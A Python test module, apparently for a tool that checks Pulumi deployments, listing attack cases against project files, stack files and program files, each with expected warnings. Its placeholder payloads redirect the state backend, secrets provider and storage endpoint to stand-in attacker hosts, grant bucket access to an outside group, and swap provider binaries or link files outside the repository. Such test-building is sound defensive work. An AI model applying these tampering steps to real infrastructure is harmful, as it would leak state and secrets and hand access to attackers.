"""Attacks on the files that `pulumi up` reads besides the spec: project and stack files, links, and other code."""

from typing import Final

from attacks.attack import (
    MAIN,
    Attack,
    Edit,
    append,
    before_deploy,
    delete,
    edit,
    link,
    together,
    write,
    write_ignored,
)

_STACK: Final = "stacks/Pulumi.prod.yaml"
_MEMBERS: Final = """\
  bucketMembers:
    type: array
    items: {type: string}
    default: []
    description: Other members that read and write the bucket's objects, such as group:team@example.com.
"""
_SALT: Final = "encryptionsalt: v1:one:v1:two:three\n"
_EVIL: Final = "group:evil@example.com"
_GRANT: Final = ("grants `roles/storage.objectUser` on the bucket", f"to `{_EVIL}`")
_LARGE: Final = "# " + "x" * (1 << 20)


def _project(text: str) -> Edit:
    return append("Pulumi.yaml", text)


def _stack(text: str) -> Edit:
    return append(_STACK, text)


def _default(text: str) -> Edit:
    return edit("Pulumi.yaml", (_MEMBERS, text))


def _changed(files: str) -> tuple[str, ...]:
    """Return the caution about changed files."""
    return (f"stack program changed in `{files}`",)


ATTACKS: Final = (
    # The project file
    Attack(
        "members-by-default",
        _default(_MEMBERS.replace("[]", f"['{_EVIL}']")),
        _GRANT,
        status=0,
    ),
    Attack(
        "members-by-a-quoted-path",
        _default(f"  '[\"bucketMembers\"]': {{default: ['{_EVIL}']}}\n"),
        ("stack program changed in `Pulumi.yaml`", "changes to resources are unknown"),
        status=1,
    ),
    Attack(
        "public-members-by-default",
        _default(_MEMBERS.replace("[]", "[allUsers]")),
        ("changes to resources are unknown",),
        status=1,
    ),
    Attack(
        "backend-moved",
        _project("backend: {url: 'gs://evil'}\n"),
        _changed("Pulumi.yaml"),
        status=0,
    ),
    Attack(
        "provider-from-the-repository",
        together(
            _project("plugins:\n  providers: [{name: gcp, path: ./bin}]\n"),
            write("bin/pulumi-resource-gcp", ""),
        ),
        _changed("Pulumi.yaml, bin/pulumi-resource-gcp"),
        status=0,
    ),
    Attack(
        "provider-binary-swapped",
        write("bin/pulumi-resource-gcp", "evil"),
        _changed("bin/pulumi-resource-gcp"),
        status=0,
        base=together(
            _project("plugins:\n  providers: [{name: gcp, path: ./bin}]\n"),
            write("bin/pulumi-resource-gcp", ""),
        ),
    ),
    Attack(
        "virtual-environment-committed",
        write_ignored(".venv/bin/python", "#!/bin/sh\n"),
        _changed(".venv/bin/python"),
        status=0,
    ),
    Attack(
        "stack-files-in-another-folder",
        together(
            write("other/Pulumi.prod.yaml", "config:\n  mnist:spec: tpucfg.yaml\n"),
            edit("Pulumi.yaml", ("stackConfigDir: stacks", "stackConfigDir: other")),
        ),
        _changed("Pulumi.yaml, other/Pulumi.prod.yaml"),
        status=0,
    ),
    Attack(
        "json-project-file",
        write(
            "Pulumi.json",
            '{"name": "mnist", "runtime": "python", "main": "stacks", "backend": {"url": "gs://evil"}}',
        ),
        _changed("Pulumi.json"),
        status=0,
    ),
    Attack(
        "project-file-with-a-merge-key",
        _project("<<: {backend: {url: 'gs://evil'}}\n"),
        _changed("Pulumi.yaml"),
        status=0,
    ),
    Attack(
        "project-file-is-a-link",
        together(
            write("shared.yaml", "name: mnist\nruntime: python\nmain: stacks\n"),
            link("Pulumi.yaml", "shared.yaml"),
        ),
        ("stack program changed in `Pulumi.yaml, stacks/Pulumi.dev.yaml, stacks",),
        status=0,
    ),
    # The stack files
    Attack(
        "stack-file-is-a-link",
        together(
            write("shared.yaml", f"config: {{mnist:bucketMembers: ['{_EVIL}']}}\n"),
            link(_STACK, "../shared.yaml"),
        ),
        _changed(_STACK),
        status=0,
    ),
    Attack(
        "target-of-a-linked-stack-file",
        write("shared.yaml", f"config: {{mnist:bucketMembers: ['{_EVIL}']}}\n"),
        _changed(_STACK),
        status=0,
        base=together(
            write("shared.yaml", "config: {mnist:spec: tpucfg.yaml}\n"),
            link(_STACK, "../shared.yaml"),
        ),
    ),
    Attack(
        "stack-file-leads-out-of-the-repository",
        append(MAIN, "\n"),
        _changed(f"{_STACK}, {MAIN}"),
        status=0,
        base=link(_STACK, "/etc/pulumi/prod.yaml"),
    ),
    Attack("stack-file-is-too-large", _stack(_LARGE), _changed(_STACK), status=1),
    Attack(
        "secrets-provider",
        _stack("secretsprovider: gcpkms://evil\n"),
        _changed(_STACK),
        status=0,
        base=_stack(_SALT),
    ),
    Attack(
        "encrypted-value-changed",
        edit(_STACK, ("v1:aaaa", "v1:bbbb")),
        _changed(_STACK),
        status=1,
        base=_stack(f"  mnist:projectNumber: {{secure: v1:aaaa}}\n{_SALT}"),
        absent=("v1:bbbb",),
    ),
    Attack(
        "key-in-its-former-spelling",
        _stack(f"  mnist:config:bucketMembers: ['{_EVIL}']\n"),
        (f"stack program changed in `{_STACK}`", "changes to resources are unknown"),
        status=1,
    ),
    Attack(
        "provider-endpoint",
        _stack("  gcp:storageCustomEndpoint: https://evil.example.com/\n"),
        _changed(_STACK),
        status=1,
    ),
    Attack(
        "default-providers-allowed",
        edit(_STACK, ("  pulumi:disable-default-providers: ['*']\n", "")),
        _changed(_STACK),
        status=0,
        base=_stack("  pulumi:disable-default-providers: ['*']\n"),
    ),
    # The program's files
    Attack(
        "program-is-a-link",
        link("stacks/helper.py", "/srv/evil.py"),
        _changed("stacks/helper.py"),
        status=1,
        base=together(write("stacks/helper.py", "\n"), before_deploy("import helper")),
    ),
    Attack(
        "module-behind-a-link-changed",
        write("x/evil.py", "import os\n"),
        _changed("stacks/evil"),
        status=0,
        base=together(write("x/evil.py", ""), link("stacks/evil", "../x")),
    ),
    Attack(
        "module-is-too-large", write("stacks/evil.py", _LARGE), _changed("stacks/evil.py"), status=0
    ),
    Attack(
        "packages-changed",
        write("stacks/requirements.txt", "pulumi\nevil\n"),
        ("stack program changed in `stacks/requirements.txt",),
        status=0,
        base=write("stacks/requirements.txt", "pulumi\n"),
    ),
    Attack(
        "program-changed",
        append(MAIN, "# x\n"),
        ("stack program changed in `stacks/__main__.py`",),
        status=0,
    ),
    Attack(
        "program-deleted",
        delete(MAIN),
        ("stack program changed in `stacks/__main__.py`", "bundled"),
        status=0,
    ),
)
